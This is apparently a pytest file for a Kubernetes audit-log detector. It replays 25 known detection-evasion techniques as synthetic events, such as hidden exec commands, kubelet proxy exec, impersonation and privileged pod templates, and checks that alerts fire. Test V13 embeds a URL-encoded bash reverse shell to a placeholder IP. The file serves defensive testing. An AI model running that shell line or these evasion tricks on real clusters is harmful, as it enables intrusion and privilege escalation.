"""The known ways around detection (V1 to V25): each is played as events, and the row it was meant to slip by fires."""

import json
from collections.abc import Callable, Iterable
from typing import Any

import pytest

from kwho.detect.pack import assemble
from kwho.detect.sigma import load_rules
from kwho.engine.memory import scan_bytes
from kwho.schema.finding import Finding
from kwho.schema.result import Result

Json = dict[str, Any]
Make = Callable[..., Json]
Tell = Callable[..., Result]

FORBID = {"authorization.k8s.io/decision": "forbid", "authorization.k8s.io/reason": ""}
PRIVILEGED = {"name": "a", "image": "x", "securityContext": {"privileged": True}}
PLAIN = {"name": "a", "image": "x"}
WEB = "system:serviceaccount:shop:web"


def rows(found: Result, event: Json | None = None) -> set[str]:
    """The rows of the catalog that were told, at whatever severity; those of one event, when it is given."""
    return {row for finding in about(found, event) for row in finding.rule.detections}


def grave(found: Result, event: Json | None = None) -> set[str]:
    """The rows that were told above low."""
    loud = [finding for finding in about(found, event) if finding.severity in ("medium", "high", "critical")]
    return {row for finding in loud for row in finding.rule.detections}


def about(found: Result, event: Json | None) -> list[Finding]:
    """The findings that cite an event."""
    wanted = event["auditID"] if event else None
    return [item for item in found.findings if wanted is None or any(wanted == cited.audit_id for cited in item.events)]


def titles(found: Result, event: Json | None = None) -> set[str]:
    return {finding.title for finding in about(found, event)}


def template(spec: Json, kind: str = "Deployment") -> Json:
    inner = {"template": {"spec": spec}}
    return {"kind": kind, "spec": {"jobTemplate": {"spec": inner}} if kind == "CronJob" else inner}


def open_stream(request_: Make, verb: str, command: str = "command=sh", at: int = 0, **members: Any) -> Json:
    uri = f"/api/v1/namespaces/shop/pods/db-0/exec?{command}&container=db&stdin=true&tty=true"
    return request_(at, "mallory", verb, "shop:pods/db-0/exec", requestURI=uri, responseStatus={"code": 101}, **members)


def test_v1_exec_is_seen_whatever_the_verb_and_refused_when_the_code_says_so(request_: Make, told: Tell) -> None:
    allowed = [open_stream(request_, "get"), open_stream(request_, "create", at=1)]
    refused = open_stream(request_, "get", at=2) | {"responseStatus": {"code": 403}}
    found = told([*allowed, refused])
    assert all("C01" in rows(found, event) for event in allowed)
    assert "C01" not in rows(found, refused)


def test_v2_a_stream_is_told_at_its_first_stage_and_once(request_: Make, told: Tell) -> None:
    started = open_stream(request_, "get", stage="ResponseStarted")
    ended = open_stream(request_, "get")
    for story in ([started], [ended], [started, ended], [ended, started]):
        (finding,) = [item for item in told(story).findings if "C01" in item.rule.detections]
        assert finding.count == 1
    bare = {"stage": "ResponseStarted", "user": {}, "responseStatus": {"code": 401}, "annotations": {}}
    assert "A05" in rows(told([request_(0, "nobody", "list", "pods") | bare]))


def test_v3_no_exact_level_is_asked_for_and_a_lower_one_is_said_to_blind(request_: Make, told: Tell) -> None:
    pod = request_(
        0, "mallory", "create", "shop:pods/x", requestObject={"kind": "Pod", "spec": {"containers": [PRIVILEGED]}}
    )
    for level in ("Request", "RequestResponse"):
        assert "D01" in rows(told([pod | {"level": level}]))
    bodiless = [request_(at, "mallory", "create", f"shop:pods/x{at}", level="Metadata") for at in range(25)]
    blind = {item.rule for item in told(bodiless).blind}
    assert {rule.id for rule in assemble([]).rules if rule.name == "privileged-container"} <= blind


def test_v4_allowed_and_then_refused_by_admission_is_an_attempt(request_: Make, told: Tell) -> None:
    body = {"kind": "Pod", "spec": {"containers": [PRIVILEGED]}}
    pod = request_(0, "mallory", "create", "shop:pods/x", requestObject=body, responseStatus={"code": 403})
    found = told([pod])
    assert "D01" not in rows(found)
    assert "Pod with host access rejected by admission" in titles(found)


def test_v5_a_private_address_in_a_header_hides_no_public_caller(request_: Make, told: Tell) -> None:
    claims: tuple[list[str], ...] = ([], ["10.0.0.1"], ["127.0.0.1", "192.168.0.1"])
    story = [
        request_(at, WEB, "list", "shop:pods", sourceIPs=[*claimed, "198.51.100.9"])
        for at, claimed in enumerate(claims)
    ]
    inside = request_(9, WEB, "list", "shop:pods", sourceIPs=["198.51.100.9", "10.0.0.1"])
    found = told([*story, inside])
    assert all("A08" in grave(found, event) for event in story)
    assert "A08" not in rows(found, inside)


def test_v6_the_agent_of_a_controller_excuses_nothing(request_: Make, told: Tell) -> None:
    agent = "kube-controller-manager/v1.34.0 (linux/amd64) kubernetes/$Format"
    found = told([request_(0, "mallory", "list", "secrets", userAgent=agent, requestURI="/api/v1/secrets")])
    assert "F04" in grave(found)


def test_v7_no_prefix_of_a_name_excuses(request_: Make, told: Tell) -> None:
    body = {"kind": "Pod", "spec": {"containers": [PRIVILEGED]}}
    users = (
        "eks:foo", "masterclient", "system:foo", "system:serviceaccount:kube-system:replicaset-controllers",
        "system:serviceaccount:kube-system-2:replicaset-controller", "SYSTEM:serviceaccount:kube-system:job-controller"
    )  # fmt: skip
    story = [request_(at, user, "create", "shop:pods/x", requestObject=body) for at, user in enumerate(users)]
    anonymous = {"user": {"username": "system:anonymous", "groups": ["system:unauthenticated"]}}
    stranger = request_(50, "", "list", "shop:configmaps") | anonymous
    found = told([*story, stranger])
    assert [event["user"]["username"] for event in story if "D01" not in grave(found, event)] == []
    assert "A01" in grave(found, stranger)


def test_v8_a_dangerous_template_is_told_at_its_author(request_: Make, told: Tell) -> None:
    story = []
    for at, kind in enumerate(("Deployment", "DaemonSet", "StatefulSet", "ReplicaSet", "Job", "CronJob")):
        body = template({"containers": [PRIVILEGED], "hostPID": True}, kind)
        story.append(request_(at, "mallory", "create", f"shop:{kind.lower()}s/x", requestObject=body))
    found = told(story)
    assert [event["requestURI"] for event in story if not rows(found, event) >= {"D01", "D07", "N11"}] == []


def test_v9_init_and_ephemeral_containers_count(request_: Make, told: Tell) -> None:
    init = {"kind": "Pod", "spec": {"containers": [PLAIN], "initContainers": [PRIVILEGED]}}
    assert "D01" in grave(told([request_(0, "mallory", "create", "shop:pods/x", requestObject=init)]))
    debugger = {"spec": {"ephemeralContainers": [PRIVILEGED]}}
    patch = request_(0, "mallory", "patch", "shop:pods/x/ephemeralcontainers", requestObject=debugger)
    assert {"D01", "C11"} <= grave(told([patch]))


def test_v10_a_patch_of_what_exists_is_judged_by_the_answer_or_by_the_name(request_: Make, told: Tell) -> None:
    subject = {"kind": "User", "name": "mallory"}
    patch = {"requestObject": {"subjects": [subject]}}
    whole = {
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "ops"},
        "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [subject],
    }
    answered = request_(0, "mallory", "patch", "clusterrolebindings/ops", responseObject=whole, **patch)
    assert "E01" in grave(told([answered]))
    assert "E04" in grave(told([request_(0, "mallory", "patch", "clusterrolebindings/cluster-admin", **patch)]))
    everything = {"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}
    wide = {"kind": "ClusterRole", "metadata": {"name": "x"}, "rules": [everything]}
    added = {"requestObject": [{"op": "add", "path": "/rules/-", "value": everything}], "responseObject": wide}
    role = request_(0, "mallory", "patch", "clusterroles/x", **added)
    assert "E14" in grave(told([role]))


def test_v11_a_binding_of_a_namespace_and_a_role_of_the_same_power_count(request_: Make, told: Tell) -> None:
    body = {
        "kind": "RoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}],
    }  # fmt: skip
    bound = request_(0, "mallory", "create", "shop:rolebindings/x", requestObject=body)
    assert "E01" in grave(told([bound]))
    rules = {"kind": "Role", "rules": [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}]}
    role = request_(0, "mallory", "create", "shop:roles/x", requestObject=rules)
    assert {"E08", "E13"} <= rows(told([role]))


def test_v12_watching_all_secrets_is_listing_them_whatever_the_parameters(request_: Make, told: Tell) -> None:
    ways = (
        ("watch", "/api/v1/secrets?watch=true"), ("list", "/api/v1/secrets?limit=1&continue=x"),
        ("list", "/api/v1/secrets/?pretty=1"), ("watch", "/api/v1/watch/secrets")
    )  # fmt: skip
    story = [request_(at, "mallory", verb, "secrets", requestURI=uri) for at, (verb, uri) in enumerate(ways)]
    found = told(story)
    assert [event["requestURI"] for event in story if "F04" not in grave(found, event)] == []


def test_v13_commands_are_read_in_any_order_and_shells_are_told_as_such(request_: Make, told: Tell) -> None:
    shell = "bash%20-i%20%3E%26%20/dev/tcp/203.0.113.9/4%200%3E%261"
    hidden = f"container=x&%63ommand=bash&stdin=true&command=-c&command={shell}"
    assert "C04" in grave(told([open_stream(request_, "get", hidden)]))
    renamed = told([open_stream(request_, "get", "command=/tmp/t&command=cf&command=-&command=/data")])
    assert "C01" in rows(renamed)
    for sub in ("attach", "portforward"):
        stream = request_(0, "mallory", "get", f"shop:pods/db-0/{sub}", responseStatus={"code": 101})
        assert {"attach": "C02", "portforward": "C10"}[sub] in rows(told([stream]))


def test_v14_the_kubelet_is_not_a_way_around_exec(request_: Make, told: Tell) -> None:
    def through(at: int, path: str) -> Json:
        uri = f"/api/v1/nodes/worker-1/proxy/{path}"
        return request_(at, "mallory", "get", "nodes/worker-1/proxy", requestURI=uri)

    paths = ("run/shop/db-0/db?cmd=id", "%65xec/shop/db-0/db?command=id", "/exec/shop/db-0/db", "portForward/shop/db-0")
    commands = [through(at, path) for at, path in enumerate(paths)]
    logs = through(9, "containerLogs/shop/db-0/db")
    found = told([*commands, logs])
    assert [event["requestURI"] for event in commands if "C13" not in grave(found, event)] == []
    assert "C12" in rows(found, logs)


def test_v15_long_lived_tokens_are_told_with_and_without_bodies(request_: Make, told: Tell) -> None:
    token = request_(0, "mallory", "create", "kube-system:serviceaccounts/admin/token", level="Metadata")
    assert "F13" in grave(told([token]))
    long = token | {
        "requestObject": {"kind": "TokenRequest", "spec": {"expirationSeconds": 31_536_000}},
        "level": "Request",
    }
    assert "N02" in grave(told([long]))
    secret = request_(1, "mallory", "create", "kube-system:secrets/x", level="Metadata")
    filled = request_(2, "system:kube-controller-manager", "update", "kube-system:secrets/x", level="Metadata")
    assert "N01" in grave(told([secret, filled]))


def test_v16_a_certificate_is_followed_from_request_to_approval(request_: Make, told: Tell) -> None:
    target = "certificatesigningrequests/x"
    asked = request_(0, "mallory", "create", target)
    approved = request_(
        9, "mallory", "update", f"{target}/approval"
    )  # fmt: skip
    bare = [event | {"level": "Metadata"} for event in (asked, approved)]
    assert {"F14", "F15", "F18"} <= grave(told(bare))


def test_v17_impersonation_is_told_in_all_its_forms(request_: Make, told: Tell) -> None:
    message = 'users "root" is forbidden: User "mallory" cannot impersonate resource "users" in API group ""'
    refused = request_(
        0, "mallory", "list", "secrets", annotations={}, responseStatus={"code": 403, "message": message}
    )
    assert "N14" in grave(told([refused]))
    verbs = {
        "kind": "ClusterRole",
        "rules": [{"apiGroups": [""], "resources": ["nodes"], "verbs": ["impersonate:arbitrary-node"]}],
    }
    role = request_(0, "mallory", "create", "clusterroles/x", requestObject=verbs)
    assert "N14" in grave(told([role]))
    used = request_(
        0, "mallory", "list", "pods", impersonatedUser={"username": "bob", "uid": "1", "extra": {"a": ["b"]}}
    )
    assert "N14" in rows(told([used]))
    masters = request_(0, "mallory", "list", "pods", impersonatedUser={"username": "x", "groups": ["system:masters"]})
    assert "E17" in grave(told([masters]))


def test_v18_admission_extensions_and_labels_of_namespaces_are_watched(request_: Make, told: Tell) -> None:
    policy = request_(
        0, "mallory", "delete", "validatingadmissionpolicybindings/x"
    )  # fmt: skip
    assert "N04" in grave(told([policy]))
    body = {
        "kind": "APIService",
        "spec": {"service": {"name": "x", "namespace": "shop"}, "insecureSkipTLSVerify": True},
    }
    service = request_(0, "mallory", "create", "apiservices/v1.x", requestObject=body)
    assert "N05" in grave(told([service]))
    label = {"metadata": {"labels": {"pod-security.kubernetes.io/enforce": "privileged"}}}
    lowered = request_(0, "mallory", "patch", "namespaces/shop", requestObject=label)
    assert "N03" in rows(told([lowered]))


def test_v19_deletion_in_numbers_is_counted_in_all_its_forms(request_: Make, told: Tell) -> None:
    all_of_a_kind = request_(0, "mallory", "deletecollection", "shop:configmaps")
    assert "N06" in grave(told([all_of_a_kind]))
    for resource, verb in (("persistentvolumeclaims", "delete"), ("volumesnapshots", "deletecollection")):
        space = [request_(at, "mallory", verb, f"s{at}:{resource}") for at in range(3)]
        assert "N06" in grave(told(space)), resource
    cordon = {"requestObject": {"spec": {"unschedulable": True}}}
    nodes = [request_(at, "mallory", "patch", f"nodes/worker-{at}", **cordon) for at in range(3)]
    assert "N06" in grave(told(nodes))
    evictions = [request_(at, "mallory", "create", f"shop:pods/p{at}/eviction") for at in range(30)]
    assert "N06" in rows(told(evictions))


def test_v20_static_pods_and_debuggers_of_nodes_show(request_: Make, told: Tell) -> None:
    mirror = {
        "kind": "Pod",
        "metadata": {"name": "x-worker-1", "annotations": {"kubernetes.io/config.mirror": "1"}},
        "spec": {"containers": [PLAIN]},
    }
    pod = request_(0, "system:node:worker-1", "create", "shop:pods/x-worker-1", requestObject=mirror)
    assert "D14" in grave(told([pod]))
    spec = {
        "hostPID": True,
        "hostNetwork": True,
        "containers": [PLAIN],
        "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
    }
    debugger = request_(
        0, "mallory", "create", "shop:pods/node-debugger-worker-1-abc", requestObject={"kind": "Pod", "spec": spec}
    )
    assert {"D05", "D07"} <= grave(told([debugger]))


def test_v21_the_parts_of_a_spec_that_nobody_reads_are_read(request_: Make, told: Tell) -> None:
    wanted: tuple[tuple[Json, str], ...] = (
        ({"securityContext": {"capabilities": {"add": ["ALL"]}}}, "Container with dangerous capabilities"),
        ({"securityContext": {"capabilities": {"add": ["CAP_SYS_ADMIN"]}}}, "Container with dangerous capabilities"),
        ({"securityContext": {"capabilities": {"add": ["sys_admin"]}}}, "Container with dangerous capabilities"),
        ({"securityContext": {"windowsOptions": {"hostProcess": True}}}, "Windows host process"),
        ({"securityContext": {"procMount": "Unmasked"}}, "Container without its usual confinement"),
        ({"securityContext": {"seccompProfile": {"type": "Unconfined"}}}, "Container without its usual confinement"),
        ({"securityContext": {"appArmorProfile": {"type": "Unconfined"}}}, "Container without its usual confinement"),
        ({"ports": [{"containerPort": 80, "hostPort": 80}]}, "Port of the node taken"),
    )
    story = []
    for at, (members, _) in enumerate(wanted):
        body = {"kind": "Pod", "spec": {"containers": [{**PLAIN, **members}]}}
        story.append(request_(at, "mallory", "create", "shop:pods/x", requestObject=body))
    volume = {"kind": "PersistentVolume", "spec": {"hostPath": {"path": "/etc/"}}}
    mounted = request_(50, "mallory", "create", "persistentvolumes/x", requestObject=volume)
    found = told([*story, mounted])
    unread = [
        members for (members, title), event in zip(wanted, story, strict=True) if title not in titles(found, event)
    ]
    assert unread == []
    assert "N10" in grave(found, mounted)


def test_v22_a_wrapped_event_is_judged_as_a_raw_one_and_unknown_fields_are_refused(request_: Make) -> None:
    body = {"kind": "Pod", "spec": {"containers": [PRIVILEGED]}}
    event = request_(0, "mallory", "create", "shop:pods/x", requestObject=body)
    text = json.dumps(event)
    wrapped = (
        {"messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/shop/cluster", "logStream": "kube-apiserver-audit-0a",
         "logEvents": [{"message": text}]},
        {"log": text + "\n", "stream": "stdout", "time": "2026-01-05T10:00:00Z"},
        {"kind": "EventList", "apiVersion": "audit.k8s.io/v1", "items": [event]}
    )  # fmt: skip
    for document in wrapped:
        assert "D01" in grave(scan_bytes(json.dumps(document).encode() + b"\n", assemble([])))
    rule = (
        "title: A\nid: 00000000-0000-4000-8000-000000000001\nlogsource: {product: kubernetes, service: audit}\n"
        "detection: {sel: {hostPath: /}, condition: sel}\n"
    )
    (refused,) = load_rules([("a.yaml", rule)]).refused
    assert 'unknown field "hostPath"' in refused.reason


def test_v23_a_policy_that_starves_a_rule_is_said_to_blind_it(request_: Make, told: Tell) -> None:
    bodiless = [request_(at, "mallory", "create", f"clusterrolebindings/x{at}", level="Metadata") for at in range(25)]
    names = {rule.id: rule.name for rule in assemble([]).rules}
    blind = {names.get(item.rule): item for item in told(bodiless).blind}
    assert "cluster-admin-binding" in blind
    assert "level: Request" in blind["cluster-admin-binding"].policy


def test_v24_the_missing_log_itself_is_told(request_: Make, told: Tell) -> None:
    minutes = [*range(12), *range(25, 40)]
    found = told([request_(60 * minute, WEB, "get", "shop:secrets/db") for minute in minutes])
    assert "N15" in rows(found)
    assert len(found.gaps) == 1
    known = {"auditID": "11111111-2222-4333-8444-555555555555"}
    hidden = told(
        [request_(0, WEB, "get", "shop:secrets/db", **known), request_(9, "mallory", "delete", "shop:pods/x", **known)]
    )
    assert "N15" in grave(hidden)


def test_v25_a_deletion_is_no_dry_run_because_its_address_says_so(request_: Make, told: Tell) -> None:
    uri = "/apis/apps/v1/namespaces/shop/deployments/web?dryRun=All"
    deletion = request_(0, "mallory", "delete", "shop:deployments/web", requestURI=uri)
    found = told([deletion])
    assert "I03" in rows(found)
    assert "Deletion dressed as a dry run" in titles(found)
    honest = deletion | {"requestObject": {"kind": "DeleteOptions", "dryRun": ["All"]}}
    assert "I03" not in rows(told([honest]))
    body = {"kind": "Pod", "spec": {"containers": [PRIVILEGED]}}
    tried = request_(
        0, "mallory", "create", "shop:pods/x", requestObject=body, requestURI="/api/v1/namespaces/shop/pods?dryRun=All"
    )
    assert "D01" not in rows(told([tried]))
    assert any(finding.severity == "low" for finding in told([tried]).findings)
    assert "D01" in rows(told([tried | {"requestURI": "/api/v1/namespaces/shop/pods?x=dryRun=All"}]))


@pytest.mark.parametrize("number", range(1, 26))
def test_every_known_evasion_has_its_scenario(number: int) -> None:
    named: Iterable[str] = (name for name in globals() if name.startswith(f"test_v{number}_"))
    assert len(list(named)) == 1
